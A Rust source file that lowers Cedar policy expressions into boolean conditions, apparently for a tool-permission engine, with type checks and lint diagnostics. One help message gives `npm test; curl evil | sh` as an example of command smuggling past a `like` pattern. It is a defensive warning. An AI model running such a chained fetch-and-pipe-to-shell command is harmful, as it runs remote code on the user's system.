//! An expression becomes a condition: the operators that give a boolean.
//!
//! Everything is lowered from the structure of the expression. A part is left out only where evaluation never
//! looks at it: beside a constant on the left of `&&`, `||` or `if`, which includes whatever the action at hand
//! settles (`action == ...`, `context.args has` of an argument that it does not declare).

use cedar_policy_core::ast::{BinaryOp, Expr, ExprKind, Literal, Pattern, PatternElem, UnaryOp};

use super::constants::fold_char;
use super::parse::Parsed;
use super::tree::{Budget, ERROR, NO, TooLarge, Tree, YES, and, choose, not, or, settled, test};
use super::types::{Kind, Ty, Val};
use super::world::Class;
use crate::diag::Diagnostic;
use crate::diag::codes::condition::{CONDITION_TOO_LARGE, CONDITION_TYPE, INVALID_CONSTANT, LIKE_ON_COMMAND};
use crate::ir::{Condition, Op, PatternPart, Term};
use crate::lower::vocabulary::{Vocabulary, VocabularyAction};
use crate::resolve::shape::Shape;

/// What the condition may look at.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Sees {
    Everything,
    /// The test of a variant: `context.args`.
    ArgumentsOnly,
}

/// Why there is no result.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Stop {
    /// The diagnostic is among the findings.
    Reported,
    TooLarge,
    /// Evaluating it errs, for every request of the class.
    Errs,
}

impl From<TooLarge> for Stop {
    fn from(_: TooLarge) -> Self {
        Stop::TooLarge
    }
}

pub(super) type Out<T> = Result<T, Stop>;

/// Names that parameters with a command or a query in them go by.
pub(super) const COMMANDS: [&str; 9] = [
    "cmd",
    "code",
    "command",
    "commands",
    "query",
    "script",
    "shell",
    "sql",
    "statement",
];

/// Lowers a condition for one action. `None` comes with a finding that is an error.
pub(super) fn lower(
    vocabulary: &Vocabulary,
    parsed: &Parsed,
    action: usize,
    sees: Sees,
) -> (Option<Condition>, Vec<Diagnostic>) {
    let found = vocabulary.actions.get(action);
    let Some((action, shape)) = found.and_then(|a| Some((a, vocabulary.shapes.get(a.shape.0 as usize)?))) else {
        let message = "the condition is about an action that does not exist";
        return (
            None,
            vec![Diagnostic::new(&CONDITION_TYPE, message, parsed.place.span, "")],
        );
    };
    let mut lowerer = Lowerer {
        vocabulary,
        parsed,
        action,
        shape,
        sees,
        world: None,
        budget: Budget::new(),
        findings: Vec::new(),
    };
    let condition = match lowerer.condition(&parsed.expr) {
        Ok(condition) => Some(condition),
        Err(Stop::Reported | Stop::Errs) => None,
        Err(Stop::TooLarge) => {
            let message = format!("the condition comes to more than {} tests", super::tree::MAX_TESTS);
            lowerer.report(&CONDITION_TOO_LARGE, &parsed.expr, message, "");
            None
        }
    };
    (condition, lowerer.findings)
}

pub(super) struct Lowerer<'a> {
    pub(super) vocabulary: &'a Vocabulary,
    pub(super) parsed: &'a Parsed,
    pub(super) action: &'a VocabularyAction,
    pub(super) shape: &'a Shape,
    pub(super) sees: Sees,
    /// The class of requests of a world that is not the organisation's: what is not typed there errs as it does to
    /// Cedar, where here it is refused.
    pub(super) world: Option<&'a Class<'a>>,
    pub(super) budget: Budget,
    pub(super) findings: Vec<Diagnostic>,
}

impl Lowerer<'_> {
    /// An expression as a condition.
    pub(super) fn condition(&mut self, e: &Expr) -> Out<Condition> {
        match self.decided(e) {
            Err(Stop::Errs) => Ok(ERROR),
            other => other,
        }
    }

    fn decided(&mut self, e: &Expr) -> Out<Condition> {
        match e.expr_kind() {
            ExprKind::Lit(Literal::Bool(truth)) => Ok(settled(*truth)),
            ExprKind::And { left, right } => {
                let left = self.condition(left);
                if left == Ok(NO) || left == Ok(ERROR) {
                    return left;
                }
                let right = self.condition(right);
                self.budget.spend(1)?;
                Ok(and(left?, right?))
            }
            ExprKind::Or { left, right } => {
                let left = self.condition(left);
                if left == Ok(YES) || left == Ok(ERROR) {
                    return left;
                }
                let right = self.condition(right);
                self.budget.spend(1)?;
                Ok(or(left?, right?))
            }
            ExprKind::If {
                test_expr,
                then_expr,
                else_expr,
            } => {
                let test = self.condition(test_expr);
                match &test {
                    Ok(YES) => return self.condition(then_expr),
                    Ok(NO) => return self.condition(else_expr),
                    Ok(ERROR) => return Ok(ERROR),
                    _ => {}
                }
                let (yes, no) = (self.condition(then_expr), self.condition(else_expr));
                self.budget.spend(1)?;
                Ok(choose(test?, yes?, no?))
            }
            ExprKind::UnaryApp { op: UnaryOp::Not, arg } => {
                self.budget.spend(1)?;
                Ok(not(self.condition(arg)?))
            }
            ExprKind::UnaryApp {
                op: UnaryOp::IsEmpty,
                arg,
            } => {
                let tree = self.value(arg)?;
                self.over(tree, &mut |this, val| match val {
                    val if this.world.is_some() => this.no_member(&val),
                    Val::Term(set, Ty::Set(_)) => this.test(Op::IsEmpty, set, Term::Nothing),
                    other => this.wrong(arg, "`isEmpty` asks about a set", &other),
                })
            }
            ExprKind::BinaryApp { op, arg1, arg2 } if is_test(*op) => self.binary(e, *op, arg1, arg2),
            ExprKind::HasAttr { expr, attr } => {
                let tree = self.value(expr)?;
                self.over(tree, &mut |this, val| this.has(e, &val, attr))
            }
            ExprKind::ExtHasAttr { expr, attrs } => {
                let tree = self.value(expr)?;
                let attrs: Vec<&str> = attrs.iter().map(|attr| attr.as_str()).collect();
                self.over(tree, &mut |this, val| this.has_all(e, val, &attrs))
            }
            ExprKind::Like { expr, pattern } => {
                self.lint_like(e, expr);
                let tree = self.value(expr)?;
                self.over(tree, &mut |this, val| this.like(e, expr, val, pattern))
            }
            ExprKind::Is { expr, entity_type } => {
                let name = entity_type.to_string();
                if self.world.is_none() {
                    self.known_type(e, &name)?;
                }
                let tree = self.value(expr)?;
                self.over(tree, &mut |this, val| match val {
                    Val::Entity(entity) if this.world.is_some() => {
                        let is = settled(this.type_of(&entity) == name);
                        let sound = this.sound(&Val::Entity(entity))?;
                        Ok(and(sound, is))
                    }
                    Val::Entity(entity) => Ok(settled(entity.type_name() == name)),
                    other => this.wrong(expr, "`is` asks about an entity", &other),
                })
            }
            ExprKind::ExtensionFunctionApp { fn_name, args } => {
                let name = fn_name.to_string();
                match self.extension_test(e, &name, args)? {
                    Some(condition) => Ok(condition),
                    None => self.boolean(e),
                }
            }
            _ => self.boolean(e),
        }
    }

    /// An expression of another kind, which must come to a boolean.
    fn boolean(&mut self, e: &Expr) -> Out<Condition> {
        let tree = self.value(e)?;
        self.over(tree, &mut |this, val| match val {
            Val::Bool(condition) => Ok(condition),
            other => this.wrong(e, "a boolean is needed", &other),
        })
    }

    /// Whether the expression is one of those that [`Self::condition`] knows by itself.
    pub(super) fn is_condition(e: &Expr) -> bool {
        match e.expr_kind() {
            ExprKind::And { .. }
            | ExprKind::Or { .. }
            | ExprKind::HasAttr { .. }
            | ExprKind::ExtHasAttr { .. }
            | ExprKind::Like { .. }
            | ExprKind::Is { .. }
            | ExprKind::Lit(Literal::Bool(_)) => true,
            ExprKind::UnaryApp { op, .. } => matches!(op, UnaryOp::Not | UnaryOp::IsEmpty),
            ExprKind::BinaryApp { op, .. } => is_test(*op),
            ExprKind::ExtensionFunctionApp { fn_name, .. } => is_extension_test(&fn_name.to_string()),
            _ => false,
        }
    }

    fn binary(&mut self, e: &Expr, op: BinaryOp, a: &Expr, b: &Expr) -> Out<Condition> {
        self.both(a, b, &mut |this, x, y| match op {
            BinaryOp::HasTag if this.world.is_some() => this.has_tag(&x, &y),
            BinaryOp::Eq => this.equal((a, x), (b, y)),
            BinaryOp::Less => this.ordered(Op::Less, (a, x), (b, y)),
            BinaryOp::LessEq => this.ordered(Op::LessEqual, (a, x), (b, y)),
            BinaryOp::In => this.within(a, x, b, y),
            BinaryOp::Contains => this.contains((a, x), (b, y)),
            BinaryOp::ContainsAll => this.sets(Op::ContainsAll, (a, x), (b, y)),
            BinaryOp::ContainsAny => this.sets(Op::ContainsAny, (a, x), (b, y)),
            BinaryOp::Add | BinaryOp::Sub | BinaryOp::Mul | BinaryOp::GetTag | BinaryOp::HasTag => {
                this.unsupported(e, "entity tags: write `principal.tags has x && principal.tags.x`")
            }
        })
    }

    /// Lowers two operands, and what is made of each pair of values that they may have.
    pub(super) fn both(
        &mut self,
        a: &Expr,
        b: &Expr,
        f: &mut impl FnMut(&mut Self, Val, Val) -> Out<Condition>,
    ) -> Out<Condition> {
        let (x, y) = (self.value(a), self.value(b));
        let (x, y) = (x?, y?);
        self.over(x, &mut |this, x| {
            let y = this.copy(&y)?;
            this.over(y, &mut |this, y| {
                let x = this.copy_val(&x)?;
                f(this, x, y)
            })
        })
    }

    /// What is made of each value that a tree may have.
    pub(super) fn over<T>(
        &mut self,
        tree: Tree<T>,
        f: &mut impl FnMut(&mut Self, T) -> Out<Condition>,
    ) -> Out<Condition> {
        let lowered = tree.then(&mut |value| f(self, value).map(Tree::Leaf))?;
        Ok(lowered.condition())
    }

    /// `a == b`
    pub(super) fn equal(&mut self, (a, x): (&Expr, Val), (b, y): (&Expr, Val)) -> Out<Condition> {
        if self.world.is_some() {
            return self.same(&x, &y);
        }
        match (x, y) {
            (Val::Entity(x), Val::Entity(y)) => self.same_entity(a, &x, &y),
            (Val::Record(x), Val::Record(y)) => self.equal_records((a, x), (b, y)),
            (Val::Bool(x), Val::Bool(y)) => self.same_truth(x, y),
            (Val::Term(x, tx), Val::Term(y, ty)) => {
                let (x, y) = self.alike((a, x, tx), (b, y, ty))?;
                self.equal_terms(x, y)
            }
            (Val::Entities(x), Val::Entities(y)) => Ok(and(self.all_among(a, &x, &y)?, self.all_among(b, &y, &x)?)),
            (x, y) => {
                self.visible(a, &x)?;
                self.visible(b, &y)?;
                self.incomparable(a, b, &x.describe(), &y.describe())
            }
        }
    }

    pub(super) fn equal_terms(&mut self, x: Term, y: Term) -> Out<Condition> {
        match (&x, &y) {
            (Term::Constant(x), Term::Constant(y)) => Ok(settled(x == y)),
            _ => self.test(Op::Equal, x, y),
        }
    }

    fn ordered(&mut self, op: Op, (a, x): (&Expr, Val), (b, y): (&Expr, Val)) -> Out<Condition> {
        let ordered = |val: &Val| matches!(val, Val::Term(_, Ty::Int | Ty::DateTime | Ty::Duration));
        match (x, y) {
            (Val::Term(x, tx), Val::Term(y, ty)) if tx == ty && matches!(tx, Ty::Int | Ty::DateTime | Ty::Duration) => {
                self.test(op, x, y)
            }
            _ if self.world.is_some() => Err(Stop::Errs),
            (x, y) if [&x, &y].iter().any(|val| matches!(val, Val::Term(_, Ty::Decimal))) => {
                let message = "decimals are compared with methods, not with operators";
                let e = if matches!(x, Val::Term(_, Ty::Decimal)) { a } else { b };
                self.report(&CONDITION_TYPE, e, message, "a decimal");
                let methods = "`lessThan`, `lessThanOrEqual`, `greaterThan` or `greaterThanOrEqual`";
                self.help(format!(
                    "write `a.lessThan(decimal(\"5.0\"))`; the methods are {methods}"
                ));
                Err(Stop::Reported)
            }
            (x, y) if ordered(&x) && ordered(&y) => self.incomparable(a, b, &x.describe(), &y.describe()),
            (x, y) => {
                let (e, val) = if ordered(&x) { (b, &y) } else { (a, &x) };
                self.wrong(e, "only numbers, datetimes and durations have an order", val)
            }
        }
    }

    fn contains(&mut self, (a, set): (&Expr, Val), (b, element): (&Expr, Val)) -> Out<Condition> {
        if self.world.is_some() {
            return self.member(&set, &element);
        }
        match (set, element) {
            (Val::Entities(entities), Val::Entity(entity)) => self.among(b, &entity, &entities),
            (Val::Term(set, ts @ Ty::Set(_)), element) => {
                let tree = self.term(b, element)?;
                self.over(tree, &mut |this, (element, te)| {
                    // The element is made a set of one, so that one rule says what may meet.
                    let Ty::Set(inner) = &ts else {
                        return Err(Stop::Reported);
                    };
                    let Some(joined) = inner.join(&te) else {
                        let set = ts.describe();
                        return this.incomparable(a, b, &set, &te.describe());
                    };
                    let set = this.adapt(a, set.clone(), &ts, &Ty::Set(Box::new(joined.clone())))?;
                    let element = this.adapt(b, element, &te, &joined)?;
                    this.test(Op::Contains, set, element)
                })
            }
            (Val::Term(_, Ty::Str(_)), _) => {
                let message = "`contains` asks about a set, and this is a string".to_owned();
                self.report(&CONDITION_TYPE, a, message, "a string");
                self.help("write `x like \"*part*\"` for a part of a string, or `[\"a\", \"b\"].contains(x)` for one of several");
                Err(Stop::Reported)
            }
            (set, _) => self.wrong(a, "`contains` asks about a set", &set),
        }
    }

    fn sets(&mut self, op: Op, (a, x): (&Expr, Val), (b, y): (&Expr, Val)) -> Out<Condition> {
        let name = if op == Op::ContainsAll {
            "containsAll"
        } else {
            "containsAny"
        };
        if self.world.is_some() {
            return match op {
                Op::ContainsAll => self.all_in(&x, &y),
                _ => self.any_in(&x, &y),
            };
        }
        match (x, y) {
            (Val::Term(x, tx @ Ty::Set(_)), Val::Term(y, ty @ Ty::Set(_))) => {
                let (x, y) = self.alike((a, x, tx), (b, y, ty))?;
                self.test(op, x, y)
            }
            (Val::Entities(x), Val::Entities(y)) if op == Op::ContainsAll => self.all_among(b, &y, &x),
            (Val::Entities(x), Val::Entities(y)) => {
                let mut any = NO;
                for one in &y {
                    any = or(any, self.among(b, one, &x)?);
                }
                Ok(any)
            }
            (Val::Term(_, Ty::Set(_)), y) => self.wrong(b, &format!("`{name}` asks about two sets"), &y),
            (x, _) => self.wrong(a, &format!("`{name}` asks about two sets"), &x),
        }
    }

    fn like(&mut self, e: &Expr, subject: &Expr, val: Val, pattern: &Pattern) -> Out<Condition> {
        let (term, kind) = match val {
            Val::Term(term, Ty::Str(kind)) => (term, kind),
            other => return self.wrong(subject, "`like` matches strings", &other),
        };
        let literal: String = pattern
            .iter()
            .map(|part| if let PatternElem::Char(c) = part { *c } else { '*' })
            .collect();
        let never = match &kind {
            Kind::Host if !literal.is_ascii() => Some("a host is compared in its ASCII form (`xn--...`)"),
            Kind::Host if literal.ends_with('.') => Some("a host is compared without a trailing dot"),
            Kind::Path if literal.contains("//") || literal.split('/').any(|part| part == "." || part == "..") => {
                Some("a path is compared without `.`, `..` and empty segments")
            }
            _ => None,
        };
        if let Some(why) = never {
            let message = format!("the pattern can never match: {why}");
            self.report(&INVALID_CONSTANT, e, message, "");
            return Err(Stop::Reported);
        }
        let folds = matches!(kind, Kind::Folded | Kind::Host);
        let parts: Vec<PatternPart> = pattern
            .iter()
            .map(|part| match part {
                PatternElem::Char(c) => PatternPart::Literal(if folds { fold_char(*c) } else { *c }),
                PatternElem::Wildcard => PatternPart::Any,
            })
            .collect();
        self.budget.spend(parts.len() / 16)?;
        self.test(Op::Like, term, Term::Pattern(parts))
    }

    fn lint_like(&mut self, e: &Expr, subject: &Expr) {
        if self.world.is_none()
            && let ExprKind::GetAttr { attr, .. } = subject.expr_kind()
            && COMMANDS.contains(&attr.to_lowercase().as_str())
        {
            let message = format!("`like` on `{attr}` cannot tell one command from several");
            self.report(&LIKE_ON_COMMAND, e, message, "matches as text");
            self.help("`npm test*` also takes `npm test; curl evil | sh`: give the tool an action for each thing it may do, or list whole commands: `[\"npm test\"].contains(...)`");
        }
    }

    /// `a in b`
    fn within(&mut self, a: &Expr, x: Val, b: &Expr, y: Val) -> Out<Condition> {
        if self.world.is_some() {
            return self.is_within(&x, &y);
        }
        match (x, y) {
            (Val::Entity(entity), Val::Entity(group)) => self.inside(a, &entity, &group),
            (Val::Entity(entity), Val::Entities(groups)) => {
                let mut condition = NO;
                for group in groups {
                    condition = or(condition, self.inside(a, &entity, &group)?);
                }
                Ok(condition)
            }
            (Val::Entity(_), y) => self.wrong(b, "`in` asks about an entity or a set of entities", &y),
            (x, _) => {
                let _: Out<()> = self.wrong(a, "`in` asks about an entity", &x);
                self.help("for one of several values write `[\"a\", \"b\"].contains(x)`");
                Err(Stop::Reported)
            }
        }
    }

    pub(super) fn test(&mut self, op: Op, left: Term, right: Term) -> Out<Condition> {
        self.budget.spend(1 + weight(&left) + weight(&right))?;
        Ok(test(op, left, right))
    }
}

fn is_test(op: BinaryOp) -> bool {
    !matches!(op, BinaryOp::Add | BinaryOp::Sub | BinaryOp::Mul | BinaryOp::GetTag)
}

pub(super) fn is_extension_test(name: &str) -> bool {
    matches!(
        name,
        "isIpv4"
            | "isIpv6"
            | "isLoopback"
            | "isMulticast"
            | "isInRange"
            | "lessThan"
            | "lessThanOrEqual"
            | "greaterThan"
            | "greaterThanOrEqual"
    )
}

/// What a term adds to the size of its test.
fn weight(term: &Term) -> usize {
    match term {
        Term::Apply(_, terms) | Term::Set(terms) => 1 + terms.iter().map(weight).sum::<usize>(),
        Term::Constant(crate::ir::Constant::Set(items)) => items.len() / 4,
        _ => 0,
    }
}
